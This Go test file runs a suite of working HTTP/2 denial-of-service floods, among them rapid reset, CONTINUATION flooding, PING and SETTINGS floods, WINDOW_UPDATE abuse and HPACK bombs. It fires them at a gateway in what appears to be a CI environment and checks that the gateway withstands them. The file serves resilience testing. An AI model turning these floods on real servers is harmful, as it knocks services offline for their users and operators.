package hostile

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
)

// flood is what an agent does on HTTP/2 connections over and over.
type flood struct {
	key      string
	name     string
	settings []http2.Setting
	deaf     bool // it never reads
	// once does it once more on c. An error asks for another connection.
	once func(c *framed) error
	// ends are the codes of GOAWAY frames that must have come; none: whether the
	// gateway ends it depends on how fast it comes.
	ends []http2.ErrCode
}

// Attacks on the framing of HTTP/2, most of them with a number: each costs the
// sender a few bytes and an unwary server an allocation, a goroutine or a queue
// that only grows.
var floods = []flood{
	{
		// No attack, but what the others are to be measured by: as many requests as
		// there is time for.
		key: "honest", name: "honest requests, for comparison",
		once: func(c *framed) error {
			id, err := c.open(true, c.request("GET", "/"))
			for limit := time.Now().Add(10 * time.Second); err == nil && id > c.done.Load()*2+100; time.Sleep(50 * time.Microsecond) {
				err = c.flush()
				if time.Now().After(limit) {
					err = errors.New("no answers")
				}
			}
			return err
		},
	},
	{
		key: "reset", name: "rapid reset (CVE-2023-44487)",
		once: func(c *framed) error {
			id, err := c.open(true, c.request("GET", "/hold"))
			return errors.Join(err, c.WriteRSTStream(id, http2.ErrCodeCancel))
		},
	},
	{
		key: "made", name: "made to reset (CVE-2025-8671): a stream error after each request",
		once: func(c *framed) error {
			id, err := c.open(true, c.request("GET", "/hold"))
			return errors.Join(err, c.WriteWindowUpdate(id, 0))
		},
	},
	{
		key: "continuation", name: "CONTINUATION without end (CVE-2024-27316)",
		once: func(c *framed) error {
			if c.next == 1 {
				c.block.Reset()
				for _, field := range append(c.request("GET", "/"), f("x-filler", strings.Repeat("x", 8000))) {
					_ = c.encoder.WriteField(field)
				}
				c.next += 2
				return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, BlockFragment: c.block.Bytes()})
			}
			c.block.Reset()
			_ = c.encoder.WriteField(field{Name: "x-more", Value: strings.Repeat("y", 8000), Sensitive: true})
			return c.WriteContinuation(1, false, c.block.Bytes())
		},
		ends: []http2.ErrCode{http2.ErrCodeProtocol},
	},
	{
		key: "emptycontinuation", name: "empty CONTINUATION",
		once: func(c *framed) error {
			if c.next == 1 {
				c.next += 2
				return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, BlockFragment: []byte{0x82}})
			}
			return c.WriteContinuation(1, false, nil)
		},
	},
	{key: "settings", name: "SETTINGS (CVE-2019-9515)", deaf: true, once: func(c *framed) error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	}},
	{key: "ping", name: "PING (CVE-2019-9512)", deaf: true, once: func(c *framed) error { return c.WritePing(false, [8]byte{1}) }},
	{
		key: "pingread", name: "PING, answers read", once: func(c *framed) error { return c.WritePing(false, [8]byte{1}) },
		ends: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm},
	},
	{
		key: "emptydata", name: "empty DATA (CVE-2019-9518)",
		once: func(c *framed) error {
			if c.next == 1 {
				_, err := c.open(false, c.request("POST", "/swallow"))
				return err
			}
			return c.WriteData(1, false, nil)
		},
		ends: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm},
	},
	{
		key: "padding", name: "DATA of padding alone",
		once: func(c *framed) error {
			if c.next == 1 {
				_, err := c.open(false, c.request("POST", "/swallow"))
				return err
			}
			return c.WriteDataPadded(1, false, nil, make([]byte, 255))
		},
		ends: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm},
	},
	{
		key: "nonsense", name: "heads that are not requests",
		once: func(c *framed) error {
			_, err := c.open(true, []field{f("x", "y")})
			return err
		},
		ends: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm},
	},
	{
		key: "trailers", name: "trailers without end",
		once: func(c *framed) error {
			id, err := c.open(false, c.request("POST", "/swallow"))
			if err == nil {
				_, err = c.open(true, nil)
				c.next -= 2
				err = errors.Join(err, c.head(id, false, nil))
			}
			return err
		},
	},
	{
		key: "priority", name: "PRIORITY and frames of no type",
		once: func(c *framed) error {
			err := c.WritePriority(c.next+2*uint32(c.block.Len()%100), http2.PriorityParam{StreamDep: 1<<31 - 1, Weight: 255})
			return errors.Join(err, c.WriteRawFrame(0xfa, 0, 0, make([]byte, 100)))
		},
		ends: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm},
	},
	{
		key: "windows", name: "WINDOW_UPDATE by one (CVE-2019-9517), answers without end",
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}},
		once: func(c *framed) error {
			if c.next < 2*100 {
				_, err := c.open(true, c.request("GET", "/endless"))
				return err
			}
			c.block.Reset()
			var errs error
			for id := uint32(1); id < c.next; id += 2 {
				errs = errors.Join(errs, c.WriteWindowUpdate(id, 1))
			}
			return errors.Join(errs, c.WriteWindowUpdate(0, 100))
		},
	},
	{
		key: "resize", name: "SETTINGS that move every stream's window",
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		once: func(c *framed) error {
			if c.next < 2*200 {
				_, err := c.open(true, c.request("GET", "/endless"))
				return err
			}
			return errors.Join(c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}),
				c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
		},
	},
	{
		key: "hpacksize", name: "HPACK table resized over and over",
		once: func(c *framed) error {
			_, err := c.open(true, append(c.request("GET", "/"), f("x-a", strings.Repeat("a", 3000))))
			block := []byte{0x3f, 0xe1, 0x1f, 0x20} // 4096, 0: RFC 7541 section 6.3
			for range 4 {
				block = append(block, 0x3f, 0xe1, 0x1f, 0x20)
			}
			c.block.Reset()
			id := c.next
			c.next += 2
			return errors.Join(err, c.head(id, true, append(block, 0x3f, 0xe1, 0x1f)))
		},
	},
	{
		key: "bomb", name: "HPACK bomb (CVE-2016-6581): a byte for each 4 KB of the head",
		once: func(c *framed) error { return c.repeat(field{Name: "x-a", Value: strings.Repeat("a", 4000)}, 60) },
	},
	{
		key: "bigbomb", name: "HPACK bomb beyond the limit on heads",
		once: func(c *framed) error { return c.repeat(field{Name: "x-a", Value: strings.Repeat("a", 4000)}, 16000) },
	},
	{
		key: "crumbs", name: "cookies in thousands of crumbs",
		once: func(c *framed) error { return c.repeat(field{Name: "cookie", Value: "a"}, 6000) },
	},
	{
		key: "goaway", name: "GOAWAY",
		once: func(c *framed) error {
			_, err := c.open(true, c.request("GET", "/"))
			return errors.Join(err, c.WriteGoAway(1<<31-1, http2.ErrCodeNo, make([]byte, 16000)))
		},
	},
}

const (
	floodTime  = 500 * time.Millisecond
	floodConns = 8 // at once
	floodBatch = 64
)

func TestI16_HTTP2FloodsCostTheFlooderOnly(t *testing.T) {
	for _, flood := range floods {
		t.Run(flood.name, func(t *testing.T) {
			var got flooded
			c := unharmed(t, func(ctx context.Context) {
				out := attackHost(t, ctx, "target.example.com", "frames", floodTime.String(), flood.key)
				if err := json.Unmarshal([]byte(out), &got); err != nil {
					t.Errorf("the attack said %q: %v", out, err)
				}
			})
			t.Logf("%d frames on %d connections, GOAWAY %v; %v", got.Frames, got.Conns, got.Ends, c)
			if got.Frames < floodBatch {
				t.Error("that was no attack")
			}
			for _, code := range flood.ends {
				if !slices.Contains(got.Ends, code) {
					t.Errorf("the gateway did not end it: GOAWAY %v, want %v", got.Ends, code)
				}
			}
		})
	}
	needAnswer(t, "target.example.com")
}

// attackHost runs an attack of ci's against one of its hosts.
func attackHost(t *testing.T, ctx context.Context, host, name string, args ...string) string {
	t.Helper()
	addr, err := addressOf(ctx, ci, host)
	if err != nil {
		t.Fatal(err)
	}
	out, err := attack(ctx, ci, append([]string{name, addr + ":443"}, append(args, host)...)...)
	if err != nil {
		t.Errorf("the attack failed: %v", err)
	}
	return out
}

// flooded is what came of a flood.
type flooded struct {
	Frames, Conns int
	Ends          []http2.ErrCode // of GOAWAY frames
}

// floodFrames runs the flood called key, on an agent host.
func floodFrames(to netip.AddrPort, until time.Time, key, host string) error {
	i := slices.IndexFunc(floods, func(f flood) bool { return f.key == key })
	if i < 0 {
		return errors.New("no such flood")
	}
	var (
		wg     sync.WaitGroup
		mu     sync.Mutex
		sum    flooded
		failed error
	)
	for range floodConns {
		wg.Go(func() {
			limit := until
			if floods[i].ends != nil {
				limit = until.Add(10 * time.Second) // the gateway is to end it, not the clock
			}
			for time.Now().Before(until) {
				n, c, err := floods[i].run(to, host, limit)
				mu.Lock()
				sum.Frames += n
				if err != nil {
					failed = err
				} else {
					sum.Conns++
					if _, away, gone := c.result(); gone && !slices.Contains(sum.Ends, away) {
						sum.Ends = append(sum.Ends, away)
					}
				}
				mu.Unlock()
				if err != nil {
					return
				}
			}
		})
	}
	wg.Wait()
	return errors.Join(failed, json.NewEncoder(os.Stdout).Encode(sum))
}

// repeat asks for something with a field n times over: once as it is, which puts
// it into the decoder's table, then a byte each (RFC 7541 section 6.1).
func (c *framed) repeat(often field, n int) error {
	if c.next == 1 {
		if _, err := c.open(true, c.request("GET", "/", often)); err != nil {
			return err
		}
	}
	c.block.Reset()
	for _, field := range c.request("GET", "/hold") {
		field.Sensitive = true // keeps it out of the table
		if err := c.encoder.WriteField(field); err != nil {
			return err
		}
	}
	c.block.Write(bytes.Repeat([]byte{0x80 | 62}, n)) // the newest in the table
	id := c.next
	c.next += 2
	return c.head(id, true, c.block.Bytes())
}

// run floods one connection until it ends or time is up.
func (f flood) run(to netip.AddrPort, host string, until time.Time) (sent int, c *framed, err error) {
	conn, err := net.DialTimeout("tcp", to.String(), 10*time.Second)
	if err != nil {
		return 0, nil, err
	}
	c, err = frames(context.Background(), conn, host, !f.deaf, f.settings...)
	if err != nil {
		return 0, nil, err
	}
	_ = c.conn.SetWriteDeadline(until.Add(time.Second)) // a peer that stops reading is one way to bear it
	out := &batch{to: c.conn}
	c.Framer, c.flush = http2.NewFramer(out, nil), out.flush
	c.AllowIllegalWrites = true
	for err == nil && time.Now().Before(until) {
		for i := 0; err == nil && i < floodBatch; i++ {
			err = f.once(c)
			sent++
		}
		err = errors.Join(err, out.flush())
	}
	if !f.deaf && err != nil {
		// What the gateway said last may still be on its way.
		select {
		case <-c.over:
		case <-time.After(time.Second):
		}
	}
	c.close(!f.deaf)
	return sent, c, nil
}

// batch collects frames, so that a flood is not held up by its own writes.
type batch struct {
	to  io.Writer
	buf []byte
}

func (b *batch) Write(p []byte) (int, error) {
	b.buf = append(b.buf, p...)
	if len(b.buf) > 64<<10 {
		return len(p), b.flush()
	}
	return len(p), nil
}

func (b *batch) flush() error {
	_, err := b.to.Write(b.buf)
	b.buf = b.buf[:0]
	return err
}
